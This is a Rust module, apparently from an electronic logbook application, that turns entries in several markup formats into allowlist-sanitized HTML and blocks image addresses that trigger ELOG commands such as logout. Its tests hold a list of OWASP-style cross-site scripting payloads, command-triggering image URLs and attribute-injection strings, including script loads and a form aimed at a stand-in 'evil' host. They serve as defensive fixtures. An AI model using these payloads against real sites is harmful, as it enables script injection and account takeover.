//! What is shown of an entry: HTML that is safe to put into a page.
//!
//! Whatever a text is written in, it becomes HTML first and is cleaned last, by a list of what is allowed: no scripts, no event handlers, no
//! frames, no forms, no styles but a few, and addresses of harmless kinds only. Nothing is trusted because of who wrote it or where it came from.

use std::{borrow::Cow, collections::HashSet, sync::LazyLock};

use ammonia::{Builder, UrlRelative};
use pulldown_cmark::{Options, Parser, html};

use crate::{elcode, elog::web::address::unescape, entry::Encoding};

mod measure;

/// The address of what `elog:12` names, as [`html`] is given it.
pub type EntryLink<'a> = &'a dyn Fn(&str) -> String;

/// Parameters of ELOG's addresses that do something: a command, a log in.
const COMMANDS: [&str; 4] = ["cmd", "jcmd", "uname", "unm"];

/// What may be styled, and nothing else.
const STYLES: [&str; 12] = [
    "color",
    "background-color",
    "font-family",
    "font-size",
    "font-style",
    "font-weight",
    "text-align",
    "text-decoration",
    "width",
    "height",
    "border",
    "vertical-align",
];

static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut cleaner = Builder::default();
    cleaner
        .add_tags(["font", "u", "input", "figure", "figcaption"])
        .add_generic_attributes(["style", "align", "title"])
        .add_tag_attributes("font", ["color", "face", "size"])
        .add_tag_attributes("table", ["border", "cellpadding", "cellspacing"])
        .add_tag_attributes("code", ["class"])
        // The boxes of Markdown's task lists, which cannot be ticked.
        .add_tag_attributes("input", ["type", "checked", "disabled"])
        .set_tag_attribute_value("input", "disabled", "")
        .set_tag_attribute_value("input", "type", "checkbox")
        .filter_style_properties(HashSet::from(STYLES))
        .url_schemes(HashSet::from(["http", "https", "mailto", "elog"]))
        .url_relative(UrlRelative::PassThrough)
        .link_rel(Some("noopener noreferrer nofollow"))
        .attribute_filter(attribute_value);
    cleaner
});

/// Of a style, what leads elsewhere is left out; so is the class of anything but a code block's language.
fn attribute_value<'a>(element: &str, attribute: &str, value: &'a str) -> Option<Cow<'a, str>> {
    let lower = value.to_ascii_lowercase();
    match attribute {
        "style" if lower.contains("url(") || lower.contains("expression") || lower.contains('\\') => None,
        "class" if element != "code" || !value.starts_with("language-") => None,
        "src" if commands(value) => None,
        _ => Some(Cow::Borrowed(value)),
    }
}

/// Whether an address asks for something to be done, as ELOG's `?cmd=Logout`: no page loads that by itself.
fn commands(address: &str) -> bool {
    let query = address.split_once('?').map_or("", |(_, query)| query.split('#').next().unwrap_or_default());
    query.split(['&', ';']).any(|part| {
        let name = unescape(part.split('=').next().unwrap_or_default());
        COMMANDS.iter().any(|known| name.trim().eq_ignore_ascii_case(known))
    })
}

/// Stands above a text that is shown as it was written, because its HTML goes too deep or is too much to be cleaned.
pub const SHOWN_AS_TEXT: &str =
    "<p><em>This text nests too deeply, or is too long, to be shown with its marks. It is shown as it was written.</em></p>\n";

/// Makes safe HTML of a text, in bounded work: what is made to take for ever is shown as it was written, below [`SHOWN_AS_TEXT`].
pub fn html(encoding: Encoding, text: &str, entry: EntryLink<'_>) -> String {
    let raw = match encoding {
        Encoding::Markdown => {
            let options =
                Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS | Options::ENABLE_FOOTNOTES;
            let mut out = String::with_capacity(text.len() * 3 / 2);
            html::push_html(&mut out, Parser::new_ext(text, options));
            out
        }
        Encoding::Plain => return as_written(text),
        Encoding::ElCode => elcode::to_html(text, entry),
        Encoding::Html => text.to_owned(),
    };
    if measure::is_bounded(&raw) { CLEANER.clean(&raw).to_string() } else { SHOWN_AS_TEXT.to_owned() + &as_written(text) }
}

/// A text as it stands.
fn as_written(text: &str) -> String {
    let mut out = String::with_capacity(text.len() * 5 / 4);
    out.push_str("<pre>");
    elcode::plain(text, &mut out);
    out.push_str("</pre>");
    out
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn shown(encoding: Encoding, text: &str) -> String {
        html(encoding, text, &|target| format!("../{target}"))
    }

    #[test]
    fn what_is_harmless_is_shown() {
        for (encoding, text, expected) in [
            (Encoding::Markdown, "**HV** `trip`", "<p><strong>HV</strong> <code>trip</code></p>\n"),
            (Encoding::Plain, "a < b\n  c", "<pre>a &lt; b\n  c</pre>"),
            (Encoding::ElCode, "[b]x[/b] [color=red]y[/color]", "<b>x</b> <span style=\"color:red\">y</span>"),
            (
                Encoding::Html,
                "<p align=\"center\"><font color=\"red\">x</font></p>",
                "<p align=\"center\"><font color=\"red\">x</font></p>",
            ),
            (Encoding::Html, "<img src=\"plot.png\" width=\"5\">", "<img src=\"plot.png\" width=\"5\">"),
        ] {
            assert_eq!(shown(encoding, text), expected, "{text}");
        }
        let link = shown(Encoding::ElCode, "elog:12 [url=https://a.b/]c[/url]");
        assert!(link.contains("href=\"../12\"") && link.contains("href=\"https://a.b/\""), "{link}");
        assert!(shown(Encoding::Markdown, "|a|b|\n|-|-|\n|1|2|").contains("<td>1</td>"));
    }

    #[test]
    fn no_picture_is_a_command() {
        for address in [
            "?cmd=Logout",
            "../Shift/12?a=1&CMD=Delete&confirm=Yes",
            "https://site/elog/12?x;%63md=Edit#a",
            "?uname=a&upassword=b",
        ] {
            for (encoding, text) in [
                (Encoding::Html, format!("<img src=\"{}\">", address.replace('&', "&amp;"))),
                (Encoding::Markdown, format!("![a]({address})")),
                (Encoding::ElCode, format!("[img]{address}[/img]")),
            ] {
                assert!(!shown(encoding, &text).contains("src="), "{encoding:?} {text}: {}", shown(encoding, &text));
            }
        }
        for harmless in ["plot.png", "cmd=1.png", "12/080910_002050_a.png?thumb=1&command=x#?cmd=1"] {
            let out = shown(Encoding::Html, &format!("<img src=\"{harmless}\">"));
            assert!(out.contains("src="), "{out}");
        }
        // Somebody who follows a link means it, and is asked.
        assert!(shown(Encoding::Html, "<a href=\"?cmd=Logout\">x</a>").contains("href="));
    }

    #[test]
    fn what_is_made_to_take_for_ever_is_shown_as_it_was_written() {
        for (encoding, bomb) in [
            (Encoding::Html, "<div>".repeat(200_000)),
            (Encoding::Markdown, ">".repeat(50_000) + "x"),
            (Encoding::Markdown, "<div>\n\n".repeat(50_000)),
        ] {
            let out = shown(encoding, &bomb);
            assert!(out.starts_with(SHOWN_AS_TEXT) && out.ends_with("</pre>"), "{encoding:?}: {:.200}", out);
        }
        // What only looks like it costs what it costs.
        for (encoding, harmless) in [
            (Encoding::ElCode, "[".repeat(4 << 20)),
            (Encoding::ElCode, "[b".repeat(2 << 20)),
            (Encoding::ElCode, "[b]".repeat(200_000)),
            (Encoding::Plain, "<div>".repeat(1 << 20)),
        ] {
            assert!(!shown(encoding, &harmless).starts_with(SHOWN_AS_TEXT), "{harmless:.40}");
            let _ = crate::plain::plain(encoding, &harmless);
        }
    }

    /// After OWASP's list of ways round a filter.
    const ATTACKS: [&str; 44] = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=JaVaScRiPt:alert(1)>",
        "<IMG SRC=`javascript:alert(1)`>",
        "<a onmouseover=\"alert(1)\">x</a>",
        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
        "<IMG SRC=# onmouseover=\"alert('x')\">",
        "<IMG SRC=/ onerror=\"alert(1)\"></img>",
        "<img src=x onerror=\"&#0000106&#0000097alert(1)\">",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)>",
        "<IMG SRC=\"jav\tascript:alert(1);\">",
        "<IMG SRC=\"jav&#x0A;ascript:alert(1);\">",
        "<IMG SRC=\" &#14; javascript:alert(1);\">",
        "<SCRIPT/XSS SRC=\"http://evil/x.js\"></SCRIPT>",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
        "<<SCRIPT>alert(1);//\\<</SCRIPT>",
        "<IMG SRC=\"('XSS')\"",
        "</TITLE><SCRIPT>alert(1);</SCRIPT>",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert(1);\">",
        "<BODY BACKGROUND=\"javascript:alert(1)\">",
        "<IMG DYNSRC=\"javascript:alert(1)\">",
        "<STYLE>li {list-style-image: url(\"javascript:alert(1)\");}</STYLE><UL><LI>x",
        "<svg/onload=alert(1)>",
        "<BGSOUND SRC=\"javascript:alert(1);\">",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert(1);\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(1);\">",
        "<IFRAME SRC=\"javascript:alert(1);\"></IFRAME>",
        "<FRAMESET><FRAME SRC=\"javascript:alert(1);\"></FRAMESET>",
        "<DIV STYLE=\"background-image: url(javascript:alert(1))\">x</DIV>",
        "<DIV STYLE=\"width: expression(alert(1));\">x</DIV>",
        "<DIV STYLE=\"color: red; behavior: url(x.htc)\">x</DIV>",
        "<BASE HREF=\"javascript:alert(1);//\">",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://evil/x.html\"></OBJECT>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz4=\" AllowScriptAccess=\"always\"></EMBED>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<form action=\"http://evil/\"><input name=password><button>go</button></form>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<svg><style><a title=\"</style><img src=1 onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
    ];

    fn assert_harmless(out: &str, of: &str) {
        let lower = out.to_ascii_lowercase();
        for element in [
            "script", "iframe", "frame", "object", "embed", "style", "link", "meta", "base", "form", "button", "svg", "math",
            "body", "template",
        ] {
            assert!(!lower.contains(&format!("<{element}")), "{of}\nbecame {out}");
        }
        for tag in lower.split('<').skip(1).filter_map(|tag| tag.split_once('>').map(|(tag, _)| tag)) {
            let outside: String = tag.split('"').step_by(2).collect();
            let handler = outside.split_whitespace().skip(1).any(|word| word.starts_with("on"));
            assert!(!handler, "{of}\nbecame {out}");
            // Names and values take turns; what is only read aloud or shown may say anything.
            let parts: Vec<&str> = tag.split('"').collect();
            for pair in parts.chunks_exact(2).filter(|pair| !pair[0].ends_with("title=") && !pair[0].ends_with("alt=")) {
                let value: String = pair[1].chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
                for scheme in ["javascript:", "vbscript:", "data:"] {
                    assert!(!value.starts_with(scheme) && !value.contains(&format!("url({scheme}")), "{of}\nbecame {out}");
                }
                assert!(!value.contains("expression(") && !value.contains("behavior"), "{of}\nbecame {out}");
            }
        }
    }

    #[test]
    fn nothing_of_owasps_list_comes_through() {
        for attack in ATTACKS {
            for encoding in Encoding::ALL {
                assert_harmless(&shown(encoding, attack), attack);
            }
        }
        for (encoding, attack) in [
            (Encoding::Markdown, "[x](javascript:alert(1))"),
            (Encoding::Markdown, "![x](javascript:alert(1))"),
            (Encoding::Markdown, "<javascript:alert(1)>"),
            (Encoding::Markdown, "[x]: javascript:alert(1)\n\n[x]"),
            (Encoding::Markdown, "[x](data:text/html;base64,PHNjcmlwdD4=)"),
            (Encoding::Markdown, "```\"onmouseover=alert(1)\nx\n```"),
            (Encoding::ElCode, "[url=javascript:alert(1)]x[/url]"),
            (Encoding::ElCode, "[img]javascript:alert(1)[/img]"),
            (Encoding::ElCode, "[url]http://a\" onclick=\"alert(1)[/url]"),
            (Encoding::ElCode, "[color=red\" onclick=\"alert(1)]x[/color]"),
            (Encoding::ElCode, "[font=x;background:url(javascript:alert(1))]x[/font]"),
            (Encoding::ElCode, "[code]</code></pre><script>alert(1)</script>[/code]"),
        ] {
            assert_harmless(&shown(encoding, attack), attack);
        }
    }

    proptest! {
        #[test]
        fn pieces_of_attacks_are_harmless_too(parts in proptest::collection::vec((0..ATTACKS.len(), 0..60usize, 0..60usize), 1..4), encoding in 0..4usize) {
            let text: String = parts
                .into_iter()
                .map(|(at, from, to)| ATTACKS[at].chars().skip(from.min(to)).take(from.abs_diff(to)).collect::<String>())
                .collect();
            assert_harmless(&shown(Encoding::ALL[encoding], &text), &text);
        }
    }
}
